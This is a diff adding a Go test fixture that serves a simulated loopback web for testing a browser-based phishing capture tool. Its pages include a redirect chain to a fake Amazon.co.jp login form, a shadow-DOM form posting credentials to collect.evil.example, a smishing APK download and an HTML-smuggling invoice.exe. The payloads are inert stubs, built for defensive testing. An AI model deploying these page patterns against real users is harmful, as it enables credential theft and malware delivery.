@@ -1,0 +1,298 @@
+package browser
+
+import (
+	"bufio"
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"fmt"
+	"html"
+	"io"
+	"log"
+	"math/big"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+)
+
+// The test "internet": one loopback port that serves every host name by
+// the Host header, plain HTTP and TLS (a self-signed certificate, so that
+// Chromium reports a certificate error) on the same port. The egress
+// proxy's TestMapHosts sends every connection here.
+
+const iPhoneUA = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
+const androidUA = "Mozilla/5.0 (Linux; Android 14; SH-M26) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36"
+
+var apkBody = append([]byte("PK\x03\x04\x14\x00\x08\x00\x08\x00AndroidManifest.xml"), make([]byte, 8000)...)
+
+type site struct {
+	addr    string
+	hangHit chan struct{} // a request reached /hang
+	closing chan struct{}
+	ln      net.Listener
+	plain   *chanListener
+	tlsL    *chanListener
+	srv     *http.Server
+	tlsSrv  *http.Server
+}
+
+func htmlPage(title, body string) string {
+	return "<!doctype html><html><head><meta charset=utf-8><title>" + title + "</title></head><body>" + body + "</body></html>"
+}
+
+func (s *site) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	host, _, err := net.SplitHostPort(r.Host)
+	if err != nil {
+		host = r.Host
+	}
+	key := host + r.URL.Path
+	h := w.Header()
+	h.Set("Content-Type", "text/html; charset=utf-8")
+	switch key {
+	// The redirect chain: 302 -> meta refresh -> script -> login form.
+	case "click.mail-link.example/r/abc":
+		http.Redirect(w, r, "http://hop1.redirector.example/meta", http.StatusFound)
+	case "hop1.redirector.example/meta":
+		fmt.Fprint(w, `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=http://hop2.redirector.example/js"></head><body>moving</body></html>`)
+	case "hop2.redirector.example/js":
+		fmt.Fprint(w, htmlPage("wait", `<script>location.href = "http://login.amazon-co-jp.example/signin?x=1";</script>`))
+	case "login.amazon-co-jp.example/signin":
+		fmt.Fprint(w, htmlPage("Amazon.co.jp サインイン", `
+<img src="/logo.png" alt="amazon.co.jp">
+<h1>サインイン</h1>
+<form id="f" method="post" action="/ap/signin-post">
+  <label for="em">Eメールまたは携帯電話番号</label><input id="em" name="email" type="email" autocomplete="username">
+  <label>パスワード <input id="pw" name="password" type="password" autocomplete="current-password"></label>
+  <input type="hidden" name="token" value="x">
+  <input type="text" name="trap" style="position:absolute;left:-9999px">
+  <button type="submit">ログイン</button>
+</form>`))
+	case "login.amazon-co-jp.example/logo.png":
+		h.Set("Content-Type", "image/gif")
+		w.Write(gif1x1)
+
+	// A delayed meta refresh.
+	case "meta.example/delay":
+		fmt.Fprint(w, `<!doctype html><html><head><meta http-equiv="refresh" content="1; url=/after"><title>wait</title></head><body>redirecting in 1s</body></html>`)
+	case "meta.example/after":
+		fmt.Fprint(w, htmlPage("after", "arrived"))
+
+	// Forms in a same-origin iframe, in an open shadow root, and in a
+	// cross-site iframe (not captured: another process).
+	case "portal.example/frames":
+		fmt.Fprint(w, htmlPage("portal", `<p>outer text</p>
+<iframe id="same" src="/inner" width="400" height="300"></iframe>
+<iframe id="cross" src="http://widget.other.example/inner" width="400" height="300"></iframe>
+<login-box></login-box>
+<script>
+customElements.define('login-box', class extends HTMLElement {
+  connectedCallback() {
+    const r = this.attachShadow({mode: 'open'});
+    r.innerHTML = '<p>shadow text</p><form action="https://collect.evil.example/c" method="post"><input type="email" name="id" placeholder="ログインID"><input type="password" name="pin" aria-label="暗証番号"></form><img src="/bank-logo.png" alt="ゆうちょ銀行">';
+  }
+});
+</script>`))
+	case "portal.example/inner":
+		fmt.Fprint(w, htmlPage("inner", `<p>inner text</p><form action="post.php"><input type="password" name="pass" id="ipw" placeholder="パスワード"></form>`))
+	case "widget.other.example/inner":
+		fmt.Fprint(w, htmlPage("cross", `<form action="/x"><input type="password" name="crosspw"></form>`))
+
+	// A smishing download: a page that sends the browser to an APK.
+	case "delivery.example/track":
+		fmt.Fprint(w, htmlPage("ヤマト運輸", `<p>お荷物の配達状況を確認するにはアプリをインストールしてください。</p><script>setTimeout(() => { location.href = "/dl/yamato.apk"; }, 10);</script>`))
+	case "delivery.example/dl/yamato.apk":
+		h.Set("Content-Type", "application/vnd.android.package-archive")
+		h.Set("Content-Disposition", `attachment; filename="yamato-tracking.apk"`)
+		h.Set("Content-Length", fmt.Sprint(len(apkBody)))
+		w.Write(apkBody)
+
+	// HTML smuggling: the page builds the file itself and "clicks" it.
+	case "smuggle.example/":
+		fmt.Fprint(w, htmlPage("invoice", `<p>Your invoice is downloading.</p><script>
+const b = new Blob([new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03])], {type: 'application/x-msdownload'});
+const a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'invoice.exe';
+document.body.appendChild(a); a.click();
+</script>`))
+
+	// A huge download that trickles: announced as 100 MiB, 1.5 MiB sent,
+	// then nothing.
+	case "files.example/huge.iso":
+		h.Set("Content-Type", "application/octet-stream")
+		h.Set("Content-Disposition", `attachment; filename="setup.iso"`)
+		h.Set("Content-Length", fmt.Sprint(100<<20))
+		w.Write([]byte("MZ\x90\x00"))
+		w.Write(make([]byte, 3<<19))
+		w.(http.Flusher).Flush()
+		select {
+		case <-r.Context().Done():
+		case <-s.closing:
+		}
+
+	// What the page sees of the browser.
+	case "ua.example/echo":
+		fmt.Fprint(w, htmlPage("echo", `<meta name="viewport" content="width=device-width, initial-scale=1"><pre id="out">ua=`+html.EscapeString(r.UserAgent())+`
+al=`+html.EscapeString(r.Header.Get("Accept-Language"))+`
+chua=`+html.EscapeString(r.Header.Get("Sec-CH-UA"))+`
+</pre><script>
+document.getElementById('out').textContent += 'w=' + innerWidth + '\nh=' + innerHeight + '\ntouch=' + navigator.maxTouchPoints +
+  '\ntz=' + Intl.DateTimeFormat().resolvedOptions().timeZone + '\nlang=' + navigator.language +
+  '\nbrands=' + (navigator.userAgentData ? JSON.stringify(navigator.userAgentData.brands) : 'none') + '\nplatform=' + navigator.platform + '\nsw=' + screen.width + '\nwebdriver=' + navigator.webdriver + '\nnavua=' + navigator.userAgent + '\n';
+</script>`))
+
+	// A server that never answers.
+	case "slow.example/hang":
+		select {
+		case s.hangHit <- struct{}{}:
+		default:
+		}
+		select {
+		case <-r.Context().Done():
+		case <-s.closing:
+		}
+
+	// A page whose load event never fires (an image that hangs), but that
+	// parsed: it is captured, not an error.
+	case "stall.example/page":
+		fmt.Fprint(w, htmlPage("stall", `<p>parsed fine</p><img src="http://slow.example/hang">`))
+
+	// A page that never gives its main thread back.
+	case "busy.example/loop":
+		fmt.Fprint(w, htmlPage("busy", `<p>spinning</p><script>setTimeout(() => { for (;;) {} }, 50);</script>`))
+	case "crash.example/page":
+		fmt.Fprint(w, htmlPage("crash", `<p>about to crash</p>`))
+
+	// Plain pages for the benchmark.
+	case "www.news.example/":
+		fmt.Fprint(w, htmlPage("ニュース", strings.Repeat("<p>今日のニュース。Lorem ipsum dolor sit amet.</p>", 200)))
+
+	// Anything over TLS (self-signed): a certificate error.
+	case "secure.bank.example/login":
+		fmt.Fprint(w, htmlPage("bank", `<form><input type="password"></form>`))
+	default:
+		http.NotFound(w, r)
+	}
+}
+
+var gif1x1 = []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
+
+func startSite() (*site, error) {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return nil, err
+	}
+	cert, err := selfSigned()
+	if err != nil {
+		return nil, err
+	}
+	s := &site{
+		addr: ln.Addr().String(), hangHit: make(chan struct{}, 16), closing: make(chan struct{}), ln: ln,
+		plain: newChanListener(ln.Addr()), tlsL: newChanListener(ln.Addr()),
+	}
+	quiet := log.New(io.Discard, "", 0) // Chromium's refused handshakes
+	s.srv = &http.Server{Handler: s, ReadHeaderTimeout: 5 * time.Second, ErrorLog: quiet}
+	s.tlsSrv = &http.Server{Handler: s, ReadHeaderTimeout: 5 * time.Second, ErrorLog: quiet}
+	go s.srv.Serve(s.plain)
+	go s.tlsSrv.Serve(tls.NewListener(s.tlsL, &tls.Config{Certificates: []tls.Certificate{cert}}))
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				br := bufio.NewReader(c)
+				c.SetReadDeadline(time.Now().Add(5 * time.Second))
+				first, err := br.Peek(1)
+				c.SetReadDeadline(time.Time{})
+				if err != nil {
+					c.Close()
+					return
+				}
+				pc := &peekedConn{Conn: c, r: br}
+				if first[0] == 0x16 { // a TLS handshake record
+					s.tlsL.push(pc)
+				} else {
+					s.plain.push(pc)
+				}
+			}()
+		}
+	}()
+	return s, nil
+}
+
+func (s *site) close() {
+	close(s.closing)
+	s.ln.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
+	defer cancel()
+	s.srv.Shutdown(ctx)
+	s.tlsSrv.Shutdown(ctx)
+	s.srv.Close()
+	s.tlsSrv.Close()
+}
+
+type peekedConn struct {
+	net.Conn
+	r *bufio.Reader
+}
+
+func (c *peekedConn) Read(p []byte) (int, error) { return c.r.Read(p) }
+
+// chanListener is a net.Listener fed by push.
+type chanListener struct {
+	addr net.Addr
+	ch   chan net.Conn
+	once sync.Once
+	done chan struct{}
+}
+
+func newChanListener(a net.Addr) *chanListener {
+	return &chanListener{addr: a, ch: make(chan net.Conn), done: make(chan struct{})}
+}
+
+func (l *chanListener) push(c net.Conn) {
+	select {
+	case l.ch <- c:
+	case <-l.done:
+		c.Close()
+	}
+}
+
+func (l *chanListener) Accept() (net.Conn, error) {
+	select {
+	case c := <-l.ch:
+		return c, nil
+	case <-l.done:
+		return nil, net.ErrClosed
+	}
+}
+
+func (l *chanListener) Close() error   { l.once.Do(func() { close(l.done) }); return nil }
+func (l *chanListener) Addr() net.Addr { return l.addr }
+
+func selfSigned() (tls.Certificate, error) {
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		return tls.Certificate{}, err
+	}
+	tmpl := &x509.Certificate{
+		SerialNumber: big.NewInt(1),
+		Subject:      pkix.Name{CommonName: "secure.bank.example"},
+		DNSNames:     []string{"secure.bank.example"},
+		NotBefore:    time.Now().Add(-time.Hour),
+		NotAfter:     time.Now().Add(24 * time.Hour),
+		KeyUsage:     x509.KeyUsageDigitalSignature,
+		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
+	}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		return tls.Certificate{}, err
+	}
+	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
+}
